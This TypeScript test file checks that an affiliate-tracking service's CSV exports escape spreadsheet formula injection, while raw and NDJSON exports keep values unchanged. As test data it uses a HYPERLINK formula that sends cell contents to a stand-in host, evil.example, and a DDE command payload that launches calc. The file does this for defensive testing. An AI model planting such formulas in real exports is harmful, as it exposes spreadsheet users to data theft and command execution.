import assert from 'node:assert/strict'
import { after, before, suite, test } from 'node:test'
import { updateAffiliate } from '../../src/catalog/write-affiliate.js'
import { updateCampaign } from '../../src/catalog/write-campaign.js'
import { clickDraft, makeWay, receiptDraft, request, sale } from '../support/drafts.js'
import { createExportWorld, type ExportWorld } from './world.js'

const formula = '=HYPERLINK("http://evil.example/?"&A1,"ok")'

/** What outsiders write, by the columns that it comes out in. */
const written = {
  ...{ source: '=1+1', creative: '+49 1', keyword: '-2+3', placement: '@SUM(A1:A9)', country: '＝1', device: ' =1' },
  ...{ sub1: formula, sub2: 'a,"b"', sub10: '＠x', language: '-de', os: '+os', browser: '=browser', region: '@region' },
} as const
const harmless = ['a,"b"']

suite('an export in a spreadsheet', () => {
  let world: ExportWorld
  before(async () => {
    world = await createExportWorld()
    const { app, admin } = world
    const way = await makeWay(app, admin, {
      name: '@Shoes',
      goals: [{ ...sale, startsAs: 'PENDING' as const, duplicates: 'UPDATE' as const }],
    })
    await updateCampaign(app.catalogWrites, admin, way.campaignId, { name: '@Shoes' })
    await updateAffiliate(app.catalogWrites, admin, way.affiliateId, { name: formula })
    const { sub1, sub2, sub10, ...traffic } = written
    const click = clickDraft(way, app.clock(), {
      ...traffic,
      subs: { sub1, sub2, sub10 },
      externalId: '=id',
      externalKind: 'OTHER',
      cost: '1.5',
    })
    await app.ledger.keepClick(click)
    const order = { clickId: click.id, transactionId: "=cmd|'/c calc'!A0", line: '-1' }
    const { conversionId } = await app.ledger.keepPostback(receiptDraft(way, app.clock()), request(order))
    assert.ok(conversionId)
    await world.setStatus(conversionId, 'REJECTED', '=why')
  })
  after(() => world.close())

  const others = { campaign: '@Shoes', affiliate: formula }
  const ofConversion = { ...written, ...others, transaction_id: "=cmd|'/c calc'!A0", line: '-1' }
  const expected = {
    conversions: ofConversion,
    changes: { ...ofConversion, reason: '=why' },
    clicks: { ...written, ...others, external_id: '=id' },
    'performance?range=TODAY&groupBy=SOURCE,CAMPAIGN': { source: written.source, campaign: '@Shoes' },
    'performance?range=TODAY&groupBy=AFFILIATE,SUB1': { affiliate: formula, sub1: formula },
  }

  test('has no cell that runs, and every text as it was but for the apostrophe before it', async () => {
    for (const [path, texts] of Object.entries(expected)) {
      const row = (await world.csv(path)).at(-1) ?? {}
      for (const [name, text] of Object.entries(texts)) {
        assert.equal(row[name], harmless.includes(text) ? text : `'${text}`, `${name} of ${path}`)
      }
      for (const [name, cell] of Object.entries(row)) assert.doesNotMatch(cell, /^[=+@]/, `${name} of ${path}`)
    }
  })

  test('has every text as it was for those who ask for it raw, and in NDJSON', async () => {
    for (const [path, texts] of Object.entries(expected)) {
      const more = path.includes('?') ? '&' : '?'
      const [csv] = (await world.csv(`${path}${more}raw=true`)).slice(-1)
      const [json] = (await world.ndjson(path)).slice(-1)
      for (const [name, text] of Object.entries(texts)) {
        assert.equal(csv?.[name], text, `${name} of ${path}`)
        assert.equal(json?.[name], text, `${name} of ${path}`)
      }
    }
  })

  test('has numbers that are numbers, below zero too', async () => {
    const [row] = await world.csv('performance?range=TODAY')
    assert.deepEqual([row?.cost, row?.profit, row?.clicks], ['1.5', '-1.5', '1'])
  })
})
